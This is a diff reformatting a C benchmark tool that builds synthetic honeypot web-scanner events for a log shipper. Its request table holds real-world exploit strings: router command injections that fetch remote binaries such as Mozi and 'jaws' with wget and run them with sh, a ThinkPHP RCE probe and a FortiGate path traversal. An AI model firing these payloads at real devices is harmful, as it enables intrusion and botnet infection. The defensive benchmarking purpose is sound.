@@ -53,60 +53,61 @@ rnd(void)
 
 /* What scanners ask a honeypot's web port for (method, target). */
 static const char *const targets[][2] = {
-	{"GET", "/"},
-	{"GET", "/.env"},
-	{"GET", "/wp-login.php"},
-	{"GET", "/HNAP1/"},
-	{"POST", "/boaform/admin/formLogin"},
-	{"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&"
-		"country=$(id%3E%60wget+-O-+http%3A%2F%2F45.95.147.12%2Ft%7Csh%60)"},
-	{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://103.77.241.34/jaws;"
-		"sh+/tmp/jaws"},
-	{"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
-	{"POST", "/GponForm/diag_Form?images/"},
-	{"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&"
-		"cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
-		"/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"},
-	{"GET", "/actuator/health"},
-	{"GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f"},
-	{"GET", "/solr/admin/info/system?wt=json"},
-	{"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function="
-		"call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"},
-	{"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
-		"sslvpn_websession"},
-	{"GET", "/favicon.ico"},
-	{"GET", "/"},
-	{"GET", "/"},
-	{"GET", "/robots.txt"},
-	{"GET", "/.git/config"},
-	{"GET", "/admin"},
-	{"GET", "/login"},
-	{"HEAD", "/"},
-	{"GET", "/manager/html"},
+        {"GET", "/"},
+        {"GET", "/.env"},
+        {"GET", "/wp-login.php"},
+        {"GET", "/HNAP1/"},
+        {"POST", "/boaform/admin/formLogin"},
+        {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&"
+                "country=$(id%3E%60wget+-O-+http%3A%2F%2F45.95.147.12%2Ft%7Csh%"
+                "60)"},
+        {"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://103.77.241.34/jaws;"
+                "sh+/tmp/jaws"},
+        {"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
+        {"POST", "/GponForm/diag_Form?images/"},
+        {"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&"
+                "cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
+                "/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"},
+        {"GET", "/actuator/health"},
+        {"GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f"},
+        {"GET", "/solr/admin/info/system?wt=json"},
+        {"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function="
+                "call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"},
+        {"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
+                "sslvpn_websession"},
+        {"GET", "/favicon.ico"},
+        {"GET", "/"},
+        {"GET", "/"},
+        {"GET", "/robots.txt"},
+        {"GET", "/.git/config"},
+        {"GET", "/admin"},
+        {"GET", "/login"},
+        {"HEAD", "/"},
+        {"GET", "/manager/html"},
 };
 
 static const char *const agents[] = {
-	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
-	"(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
-	"Mozilla/5.0 zgrab/0.x",
-	"Mozilla/5.0 zgrab/0.x",
-	"curl/7.88.1",
-	"Go-http-client/1.1",
-	"Hello, world",
-	"curl/7.88.1",
-	"python-requests/2.31.0",
-	"Mozilla/5.0 (compatible; CensysInspect/1.1; "
-	"+https://about.censys.io/)",
-	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
-	"Gecko) Chrome/81.0.4044.129 Safari/537.36",
-	"Go-http-client/1.1",
-	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        "Mozilla/5.0 zgrab/0.x",
+        "Mozilla/5.0 zgrab/0.x",
+        "curl/7.88.1",
+        "Go-http-client/1.1",
+        "Hello, world",
+        "curl/7.88.1",
+        "python-requests/2.31.0",
+        "Mozilla/5.0 (compatible; CensysInspect/1.1; "
+        "+https://about.censys.io/)",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
+        "Gecko) Chrome/81.0.4044.129 Safari/537.36",
+        "Go-http-client/1.1",
+        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
 };
 
 static const char *const accepts[] = {
-	"*/*",
-	"text/html,application/xhtml+xml,*/*;q=0.8",
-	"application/json, text/plain, */*",
+        "*/*",
+        "text/html,application/xhtml+xml,*/*;q=0.8",
+        "application/json, text/plain, */*",
 };
 
 static const int statuses[] = {200, 200, 404, 404, 404, 401, 400};
@@ -123,48 +124,52 @@ make_event(uint64_t i)
 
 	/* source addresses spread over the whole v4 space, a few v6 */
 	if (r % 16 == 0)
-		snprintf(sip, sizeof sip, "2a0%u:%x:%x::%x", (unsigned)(r >> 4 & 7),
-			(unsigned)(r >> 8 & 0xffff), (unsigned)(r >> 24 & 0xffff),
-			(unsigned)(r >> 40 & 0xffff));
+		snprintf(sip, sizeof sip, "2a0%u:%x:%x::%x",
+		        (unsigned)(r >> 4 & 7), (unsigned)(r >> 8 & 0xffff),
+		        (unsigned)(r >> 24 & 0xffff),
+		        (unsigned)(r >> 40 & 0xffff));
 	else
-		snprintf(sip, sizeof sip, "%u.%u.%u.%u", (unsigned)(r >> 8 & 223) + 1,
-			(unsigned)(r >> 16 & 255), (unsigned)(r >> 24 & 255),
-			(unsigned)(r >> 32 & 254) + 1);
+		snprintf(sip, sizeof sip, "%u.%u.%u.%u",
+		        (unsigned)(r >> 8 & 223) + 1, (unsigned)(r >> 16 & 255),
+		        (unsigned)(r >> 24 & 255),
+		        (unsigned)(r >> 32 & 254) + 1);
 	event_str(e, "source.ip", sip);
 	event_int(e, "source.port", 1024 + (int64_t)(r >> 40 & 0xffff) % 64511);
 	event_str(e, "destination.ip", "192.0.2.10");
 	event_int(e, "destination.port", 80);
 	event_str(e, "network.transport", "tcp");
-	snprintf(session, sizeof session, "%s-%llu",
-		event_identity()->boot_id, (unsigned long long)i / 2 + 1);
+	snprintf(session, sizeof session, "%s-%llu", event_identity()->boot_id,
+	        (unsigned long long)i / 2 + 1);
 	event_str(e, "lure.session", session);
 	event_bytes(e, "http.request.method", t[0], strlen(t[0]),
-		EVENT_CAP_DEFAULT);
+	        EVENT_CAP_DEFAULT);
 	event_bytes(e, "url.original", t[1], strlen(t[1]), EVENT_CAP_PAYLOAD);
 	q = strchr(t[1], '?');
 	n = snprintf(path, sizeof path, "%.*s",
-		(int)(q ? (size_t)(q - t[1]) : strlen(t[1])), t[1]);
+	        (int)(q ? (size_t)(q - t[1]) : strlen(t[1])), t[1]);
 	event_bytes(e, "url.path", path, (size_t)n, EVENT_CAP_DEFAULT);
 	if (q)
 		event_bytes(e, "url.query", q + 1, strlen(q + 1),
-			EVENT_CAP_DEFAULT);
+		        EVENT_CAP_DEFAULT);
 	event_str(e, "http.version", "1.1");
 	event_bytes(e, "url.domain", "192.0.2.10", 10, EVENT_CAP_DEFAULT);
-	event_bytes(e, "user_agent.original", ua, strlen(ua), EVENT_CAP_DEFAULT);
+	event_bytes(
+	        e, "user_agent.original", ua, strlen(ua), EVENT_CAP_DEFAULT);
 	event_int(e, "http.response.status_code", PICK(statuses));
 	/* the raw header block, CR LF and all, as the emulator logs it */
 	n = snprintf(headers, sizeof headers,
-		"Host: 192.0.2.10:80\r\nUser-Agent: %s\r\nAccept: %s\r\n"
-		"%sConnection: %s\r\n", ua, PICK(accepts),
-		r & 1 ? "Accept-Encoding: gzip\r\n" : "",
-		r & 2 ? "close" : "keep-alive");
-	event_bytes(e, "lure.http.headers", headers, (size_t)n,
-		EVENT_CAP_PAYLOAD);
+	        "Host: 192.0.2.10:80\r\nUser-Agent: %s\r\nAccept: %s\r\n"
+	        "%sConnection: %s\r\n",
+	        ua, PICK(accepts), r & 1 ? "Accept-Encoding: gzip\r\n" : "",
+	        r & 2 ? "close" : "keep-alive");
+	event_bytes(
+	        e, "lure.http.headers", headers, (size_t)n, EVENT_CAP_PAYLOAD);
 	if (t[0][0] == 'P') {
 		static const char body[] = "username=admin&psd=Feefifofum";
-		event_int(e, "http.request.body.bytes", (int64_t)sizeof body - 1);
-		event_bytes(e, "http.request.body.content", body, sizeof body - 1,
-			EVENT_CAP_PAYLOAD);
+		event_int(
+		        e, "http.request.body.bytes", (int64_t)sizeof body - 1);
+		event_bytes(e, "http.request.body.content", body,
+		        sizeof body - 1, EVENT_CAP_PAYLOAD);
 	}
 	event_commit(e);
 }
@@ -215,9 +220,9 @@ static void
 usage(void)
 {
 	fprintf(stderr, "usage: shipbench [-n N] [-i INDEX] [-b batch_events] "
-			"[-B batch_bytes] [-f flush_ms] [-o outbox_bytes] "
-			"[-a ca_file] [-c chunk] [-s seed] [-T seconds] "
-			"URL | -w FILE\n");
+	                "[-B batch_bytes] [-f flush_ms] [-o outbox_bytes] "
+	                "[-a ca_file] [-c chunk] [-s seed] [-T seconds] "
+	                "URL | -w FILE\n");
 	exit(2);
 }
 
@@ -251,7 +256,7 @@ write_lines(const char *path, uint64_t n, unsigned chunk)
 		while ((k = outbox_peek(c, &p)) > 0) {
 			if (fwrite(p, 1, k, f) != k) {
 				fprintf(stderr, "shipbench: %s: write failed\n",
-					path);
+				        path);
 				return 1;
 			}
 			bytes += k;
@@ -261,16 +266,16 @@ write_lines(const char *path, uint64_t n, unsigned chunk)
 	if (fclose(f) != 0)
 		return 1;
 	printf("{\"written\":%llu,\"bytes\":%llu,\"avg_line\":%.1f}\n",
-		(unsigned long long)n, (unsigned long long)bytes,
-		n ? (double)bytes / (double)n : 0.0);
+	        (unsigned long long)n, (unsigned long long)bytes,
+	        n ? (double)bytes / (double)n : 0.0);
 	return 0;
 }
 
 int
 main(int argc, char **argv)
 {
-	static struct event_identity id = {"bench-sensor", "bench-host",
-		"generic", "5eed5eed5eed5eed"};
+	static struct event_identity id = {
+	        "bench-sensor", "bench-host", "generic", "5eed5eed5eed5eed"};
 	const char *url = NULL, *out = NULL, *index = "lure-bench-%Y.%m.%d";
 	const char *ca = NULL;
 	uint64_t n = 1000000, made = 0;
@@ -317,8 +322,8 @@ main(int argc, char **argv)
 		return write_lines(out, n, chunk);
 
 	if (strlen(url) >= sizeof config.es.url ||
-	    strlen(index) >= sizeof config.es.index ||
-	    (ca && strlen(ca) >= sizeof config.es.ca_file))
+	        strlen(index) >= sizeof config.es.index ||
+	        (ca && strlen(ca) >= sizeof config.es.ca_file))
 		usage();
 	strcpy(config.es.url, url);
 	strcpy(config.es.index, index);
@@ -357,9 +362,10 @@ main(int argc, char **argv)
 		if (ss.shipped + ss.dead_lettered + ss.dropped >= n)
 			break;
 		if (mono() - t0 > timeout_s) {
-			fprintf(stderr, "shipbench: gave up after %u s: state %s, "
-					"error \"%s\"\n", timeout_s, ss.state,
-				ss.last_error);
+			fprintf(stderr,
+			        "shipbench: gave up after %u s: state %s, "
+			        "error \"%s\"\n",
+			        timeout_s, ss.state, ss.last_error);
 			break;
 		}
 		ship_pollfd(&pfd);
@@ -385,10 +391,12 @@ main(int argc, char **argv)
 		double sys = tv(ru1.ru_stime) - tv(ru0.ru_stime);
 		double cpu = user + sys - gen_cpu;
 		int ok = ss.shipped == n && ss.dead_lettered == 0 &&
-			 ss.dropped == 0 && os.dropped == 0;
+		         ss.dropped == 0 && os.dropped == 0;
 
-		printf("{\"events\":%llu,\"shipped\":%llu,\"dead_lettered\":%llu,"
-		       "\"retried\":%llu,\"requests\":%llu,\"ship_dropped\":%llu,"
+		printf("{\"events\":%llu,\"shipped\":%llu,\"dead_lettered\":%"
+		       "llu,"
+		       "\"retried\":%llu,\"requests\":%llu,\"ship_dropped\":%"
+		       "llu,"
 		       "\"outbox_dropped\":%llu,\"outbox_size\":%zu,"
 		       "\"pushed\":%llu,\"wall_s\":%.3f,\"events_per_s\":%.0f,"
 		       "\"cpu_user_s\":%.3f,\"cpu_sys_s\":%.3f,"
@@ -397,18 +405,19 @@ main(int argc, char **argv)
 		       "\"ru_maxrss_kib\":%ld,"
 		       "\"batch_events\":%u,\"batch_bytes\":%u,\"flush_ms\":%u,"
 		       "\"state\":\"%s\",\"last_error\":\"%s\",\"ok\":%s}\n",
-			(unsigned long long)n, (unsigned long long)ss.shipped,
-			(unsigned long long)ss.dead_lettered,
-			(unsigned long long)ss.retried,
-			(unsigned long long)ss.requests,
-			(unsigned long long)ss.dropped,
-			(unsigned long long)os.dropped, os.size,
-			(unsigned long long)os.pushed, wall,
-			wall > 0 ? (double)ss.shipped / wall : 0.0, user, sys,
-			gen_cpu, cpu, ss.shipped ? cpu * 1e6 / (double)ss.shipped : 0,
-			vm_hwm_kib(), ru1.ru_maxrss, config.es.batch_events,
-			config.es.batch_bytes, config.es.flush_ms, ss.state,
-			err, ok ? "true" : "false");
+		        (unsigned long long)n, (unsigned long long)ss.shipped,
+		        (unsigned long long)ss.dead_lettered,
+		        (unsigned long long)ss.retried,
+		        (unsigned long long)ss.requests,
+		        (unsigned long long)ss.dropped,
+		        (unsigned long long)os.dropped, os.size,
+		        (unsigned long long)os.pushed, wall,
+		        wall > 0 ? (double)ss.shipped / wall : 0.0, user, sys,
+		        gen_cpu, cpu,
+		        ss.shipped ? cpu * 1e6 / (double)ss.shipped : 0,
+		        vm_hwm_kib(), ru1.ru_maxrss, config.es.batch_events,
+		        config.es.batch_bytes, config.es.flush_ms, ss.state,
+		        err, ok ? "true" : "false");
 		fflush(stdout);
 		ship_drain(1000);
 		return ok ? 0 : 1;
